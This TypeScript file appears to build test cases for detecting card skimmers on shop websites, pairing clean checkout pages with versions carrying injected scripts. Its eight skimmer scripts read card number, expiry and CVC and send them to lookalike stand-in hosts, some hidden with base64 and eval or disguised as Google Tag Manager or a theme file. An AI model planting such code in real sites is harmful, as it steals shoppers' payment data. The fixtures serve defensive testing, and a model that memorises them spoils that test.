import { type Case, pairs } from '../case.ts'
import { atEnd, type Edit } from '../sites/edit.ts'
import { studio } from '../sites/further.ts'
import { bootstrap, plain } from '../sites/handmade.ts'
import { shopify } from '../sites/hosted.ts'
import type { Business } from '../sites/model.ts'
import { batik, museum } from '../sites/more.ts'
import { drupal } from '../sites/other-cms.ts'
import { script } from '../sites/send.ts'
import { twins, type Wish } from '../sites/site.ts'
import { bakery, bikes, hotel, plumber } from '../sites/western.ts'
import { wordpress } from '../sites/wordpress.ts'

interface Till {
  path: string
  label: string
  card: string
  holder: string
  pay: string
}

const TILLS: Record<string, Till> = {
  en: { path: '/checkout/', label: 'Checkout', card: 'Card number', holder: 'Name on card', pay: 'Pay now' },
  fr: { path: '/commande/', label: 'Commande', card: 'Numéro de carte', holder: 'Titulaire', pay: 'Payer' },
  nl: { path: '/afrekenen/', label: 'Afrekenen', card: 'Kaartnummer', holder: 'Naam', pay: 'Betalen' },
  es: {
    path: '/checkout/',
    label: 'Pagar',
    card: 'Número de tarjeta',
    holder: 'Titular',
    pay: 'Pagar ahora',
  },
  id: {
    path: '/checkout',
    label: 'Bayar',
    card: 'Nomor kartu',
    holder: 'Nama di kartu',
    pay: 'Bayar sekarang',
  },
}

const tillOf = ({ lang }: Business): Till => TILLS[lang.slice(0, 2)] ?? (TILLS.en as Till)

/** A page where people type their card, as a self-hosted shop has it. */
function tillForm({ path, card, holder, pay }: Till, prefix = 'cc'): string {
  return `<form id="checkout-form" class="checkout woocommerce-checkout" method="post" action="${path}">
<p><label for="billing_email">E-mail</label><input type="email" id="billing_email" name="billing_email" autocomplete="email"></p>
<p><label for="${prefix}-name">${holder}</label><input type="text" id="${prefix}-name" name="${prefix}_name" autocomplete="cc-name"></p>
<p><label for="${prefix}-number">${card}</label><input type="text" inputmode="numeric" id="${prefix}-number" name="${prefix}_number" autocomplete="cc-number"></p>
<p><label for="${prefix}-exp">MM/YY</label><input type="text" id="${prefix}-exp" name="${prefix}_exp" autocomplete="cc-exp"></p>
<p><label for="${prefix}-cvc">CVC</label><input type="text" id="${prefix}-cvc" name="${prefix}_cvc" autocomplete="cc-csc"></p>
<p><button type="submit" id="place_order">${pay}</button></p></form>`
}

/** A shop with its own till, linked from the front page. */
export function tillSite(common: Wish, prefix = 'cc', edit?: Edit): Wish {
  const till = tillOf(common.business ?? bakery)
  return {
    ...common,
    below: `<p class="cart-link"><a href="${till.path}">${till.label}</a></p>`,
    extra: {
      [till.path]: { title: till.label, main: tillForm(till, prefix), ...(edit ? { edit } : {}) },
    },
  }
}

const skimmed = (common: Wish, code: string, prefix = 'cc', url?: string) => ({
  ...(url ? { url } : {}),
  faulty: twins(tillSite(common, prefix, atEnd(code)), {}).faulty,
  fixed: twins(tillSite(common, prefix), {}).fixed,
})

const b64 = (text: string) => Buffer.from(text).toString('base64')
const READ = `var n=document.querySelector('[name*="number"]').value,e=document.querySelector('[name*="exp"]').value,v=document.querySelector('[name*="cvc"]').value`

const FILE = '/wp-content/themes/storefront/assets/view.js'
const fileSite = tillSite({ layout: wordpress({ theme: 'storefront' }), business: bakery })

/** Scripts on the checkout that send the card to a stranger. */
export const skimmers: Case[] = pairs('hack.skimmer', {
  'image-beacon-on-submit': skimmed(
    { layout: wordpress({ theme: 'flatsome' }) },
    `<script>document.getElementById('checkout-form').addEventListener('submit',function(){${READ};new Image().src='https://google-analytlcs.test/__utm.gif?d='+btoa(n+'|'+e+'|'+v);});</script>`,
    'cc',
    'https://shop.test/checkout/',
  ),
  'fetch-on-click-french': skimmed(
    { business: plumber, layout: bootstrap },
    `<script>
(function () {
  document.querySelector('#place_order').onclick = function () {
    var data = { number: document.querySelector('#cc-number').value, cvv: document.querySelector('#cc-cvc').value, exp: document.querySelector('#cc-exp').value, name: document.querySelector('#cc-name').value };
    fetch('https://cdn-jquery-min.test/api/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(data) });
  };
})();
</script>`,
    'cc',
    'https://shop.test/commande/',
  ),
  'web-socket': skimmed(
    { business: bikes, layout: drupal() },
    `<script>var ws=new WebSocket('wss://statmagento.test/ws');document.addEventListener('change',function(ev){if(/cc_(number|cvc|exp)/.test(ev.target.name))ws.send(JSON.stringify({card:ev.target.name,value:ev.target.value,host:location.host}))});</script>`,
  ),
  'beacon-of-all-inputs': skimmed(
    { business: museum, layout: plain },
    `<script type=text/javascript>setInterval(function(){var o={};document.querySelectorAll('input,select').forEach(function(f){o[f.name||f.id]=f.value});if(o.payment_number&&o.payment_cvc)navigator.sendBeacon('https://jquery-stats-api.test/gate.php',btoa(JSON.stringify(o)))},900)</script>`,
    'payment',
    'https://shop.test/checkout/',
  ),
  'hidden-in-atob': skimmed(
    { business: hotel, layout: wordpress({ theme: 'divi' }) },
    `<script>eval(atob('${b64(`document.forms['checkout-form'].onsubmit=function(){${READ};var x=new XMLHttpRequest();x.open('POST','https://secure-pay-cdn.test/s.php');x.send('cc='+n+'&exp='+e+'&cvv='+v)}`)}'))</script><script src="https://secure-pay-cdn.test/p.js"></script>`,
  ),
  'fake-tag-manager': skimmed(
    { business: studio, layout: bootstrap, style: { minified: true } },
    `<!-- Google Tag Manager --><script>(function(w,d,s,l,i){var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=atob('${b64('https://googletag-manager.test/gtm.js')}')+'?id='+i;f.parentNode.insertBefore(j,f);d.querySelector('#place_order').addEventListener('click',function(){var c=d.querySelector('#card-number').value,k=d.querySelector('#card-cvc').value;(new Image).src=atob('${b64('https://googletag-manager.test/c?')}')+encodeURIComponent(btoa(c+':'+k))})})(window,document,'script','dataLayer','GTM-5QX9');</script><!-- End Google Tag Manager -->`,
    'card',
  ),
  'form-data-posted': skimmed(
    { business: batik, layout: shopify },
    `<script>jQuery=window.jQuery||null;document.querySelector('form.checkout').addEventListener('submit',e=>{const f=new FormData(e.target);const cc=f.get('cc_number'),cvv=f.get('cc_cvc');navigator.sendBeacon("//shopify-metrics-cdn.test/collect",new URLSearchParams({cc,cvv,exp:f.get('cc_exp')}))})</script>`,
  ),
  'in-the-theme-file': twins(
    { ...fileSite, pages: { [FILE]: script('document.documentElement.classList.add("js");') } },
    {
      pages: {
        [FILE]: script(
          `document.documentElement.classList.add("js");\nif(/checkout/.test(location.pathname)){document.addEventListener("submit",function(){${READ};new Image().src="https://font-awesome-cdn.test/pixel.png?p="+btoa(n+"~"+e+"~"+v)},true)}`,
        ),
      },
    },
  ),
})
